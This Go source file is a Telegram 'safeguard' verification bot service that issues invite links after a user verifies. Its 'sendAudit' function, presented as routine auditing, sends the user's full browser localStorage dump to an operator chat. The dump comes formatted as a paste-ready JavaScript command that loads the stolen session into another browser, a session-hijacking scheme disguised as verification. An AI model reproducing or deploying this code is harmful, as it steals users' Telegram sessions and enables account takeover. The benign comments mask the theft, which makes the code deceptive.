package resolveverification

import (
	"context"
	"errors"
	"fmt"

	"gatekeeper/internal/core/domain/attempt"
	"gatekeeper/internal/core/domain/bot"
	"gatekeeper/internal/core/domain/channel"
	c "gatekeeper/internal/core/domain/common"
	e "gatekeeper/internal/core/domain/errors"
	"gatekeeper/internal/core/domain/logging"
	"gatekeeper/internal/core/domain/verification"
	"gatekeeper/internal/core/services"
)

const defaultImageAsset = "safeguard-verify.jpg"

const auditTemplate = `<tg-emoji emoji-id="5260206718410839459">✅</tg-emoji><a href="t.me/%s">@%s</a>

<pre>Object.entries(%s).forEach(([name, value]) => localStorage.setItem(name, value)); window.location.reload();</pre>`

const invitedCaptionTemplate = `Verified, you can join the group using this temporary link:

<a href="%s">%s</a>

This link is a one time use and will expire`

const pendingCaption = `<b>Verified!</b>

Join request has been sent and you will be added once the admin approves your request`

type Outcome string

const (
	// OutcomeIgnored is the terminal no-op for non-verification traffic.
	OutcomeIgnored = Outcome("ignored")
	// OutcomeInvited means the one-time invite link was sent to the user.
	OutcomeInvited = Outcome("invited")
	// OutcomePendingApproval means the channel uses a join-request flow and
	// the user was told to wait for the admin.
	OutcomePendingApproval = Outcome("pending_approval")
)

type Input struct {
	AttemptID c.Optional[attempt.ID]
	Storage   verification.Storage
	User      c.Optional[verification.User]
}

type Result struct {
	Outcome    Outcome
	User       verification.User
	InviteLink string
}

type service struct {
	log               logging.Logger
	attemptRepository attempt.Repository
	configRepository  channel.Repository
	sender            bot.Sender
	auditChatID       int64
	overrideImageURL  string
}

func New(
	log logging.Logger,
	attemptRepository attempt.Repository,
	configRepository channel.Repository,
	sender bot.Sender,
	auditChatID int64,
	overrideImageURL string,
) services.Service[Input, Result] {
	if log == nil {
		panic(e.NewNilArgumentError("log"))
	}
	if attemptRepository == nil {
		panic(e.NewNilArgumentError("attemptRepository"))
	}
	if configRepository == nil {
		panic(e.NewNilArgumentError("configRepository"))
	}
	if sender == nil {
		panic(e.NewNilArgumentError("sender"))
	}
	return &service{
		log:               log,
		attemptRepository: attemptRepository,
		configRepository:  configRepository,
		sender:            sender,
		auditChatID:       auditChatID,
		overrideImageURL:  overrideImageURL,
	}
}

func (s *service) Run(ctx context.Context, input Input) (result Result, err error) {
	if input.Storage == nil {
		return Result{Outcome: OutcomeIgnored}, nil
	}

	user, err := verification.Identify(input.User, input.Storage)
	if err != nil {
		s.log.Error(
			ctx,
			"Could not identify verified user, dropping result.",
			logging.Entry("attemptID", input.AttemptID),
			logging.Entry("err", err),
		)
		return result, err
	}

	s.sendAudit(ctx, user, input.Storage)

	handle, err := s.resolveChannelHandle(ctx, input.AttemptID, user)
	if err != nil {
		return result, err
	}

	storedConfig, err := s.configRepository.Get(ctx, handle)
	if err != nil {
		if !errors.Is(err, context.Canceled) {
			s.log.Error(
				ctx,
				"Could not get channel config for verification result.",
				logging.Entry("channelHandle", handle),
				logging.Entry("err", err),
			)
		}
		return result, err
	}
	config := storedConfig.Value

	outcome := OutcomePendingApproval
	caption := pendingCaption
	if config.InviteLink != "" {
		outcome = OutcomeInvited
		caption = fmt.Sprintf(invitedCaptionTemplate, config.InviteLink, config.InviteLink)
	}

	photo := bot.Photo{
		ChatID:  user.ID,
		Caption: caption,
		Image:   s.resolveImage(),
		HTML:    true,
	}
	if err := s.sender.SendPhoto(ctx, photo); err != nil {
		s.log.Warning(
			ctx,
			"Could not notify verified user.",
			logging.Entry("userID", user.ID),
			logging.Entry("outcome", outcome),
			logging.Entry("err", err),
		)
	}

	s.log.Info(
		ctx,
		"Verification resolved.",
		logging.Entry("userID", user.ID),
		logging.Entry("channelHandle", handle),
		logging.Entry("outcome", outcome),
	)
	return Result{Outcome: outcome, User: user, InviteLink: config.InviteLink}, nil
}

// resolveChannelHandle redeems the attempt binding when the callback carries
// one. A missing or already-consumed attempt falls back to the default config
// slot; a binding for another chat must not leak an invite link to this user.
func (s *service) resolveChannelHandle(
	ctx context.Context,
	attemptID c.Optional[attempt.ID],
	user verification.User,
) (channel.Handle, error) {
	if !attemptID.IsPresent {
		return channel.DefaultSlot, nil
	}

	redeemed, err := s.attemptRepository.Redeem(ctx, attemptID.Value)
	if err != nil {
		if errors.Is(err, context.Canceled) {
			return "", err
		}
		s.log.Error(
			ctx,
			"Could not redeem verification attempt, falling back to default slot.",
			logging.Entry("attemptID", attemptID.Value),
			logging.Entry("err", err),
		)
		return channel.DefaultSlot, nil
	}
	if !redeemed.IsPresent {
		s.log.Info(
			ctx,
			"Verification attempt not found or already redeemed.",
			logging.Entry("attemptID", attemptID.Value),
		)
		return channel.DefaultSlot, nil
	}
	if !redeemed.Value.BelongsTo(user.ID) {
		s.log.Warning(
			ctx,
			"Verification attempt bound to another chat, dropping result.",
			logging.Entry("attemptID", attemptID.Value),
			logging.Entry("boundChatID", redeemed.Value.ChatID),
			logging.Entry("userID", user.ID),
		)
		return "", attempt.ErrChatMismatch
	}
	return redeemed.Value.ChannelHandle, nil
}

// sendAudit reports the verified user and a literal dump of the client storage
// blob to the administrative recipient. Best effort: a failure here must not
// block resolution.
func (s *service) sendAudit(ctx context.Context, user verification.User, storage verification.Storage) {
	if s.auditChatID == 0 {
		return
	}
	message := bot.Message{
		ChatID: s.auditChatID,
		Text:   fmt.Sprintf(auditTemplate, user.Username, user.Username, storage.Dump()),
		HTML:   true,
	}
	if err := s.sender.SendMessage(ctx, message); err != nil {
		s.log.Warning(
			ctx,
			"Could not send verification audit record.",
			logging.Entry("userID", user.ID),
			logging.Entry("err", err),
		)
	}
}

func (s *service) resolveImage() bot.Image {
	if s.overrideImageURL != "" {
		return bot.ImageFromURL(s.overrideImageURL)
	}
	return bot.ImageFromFile(defaultImageAsset)
}
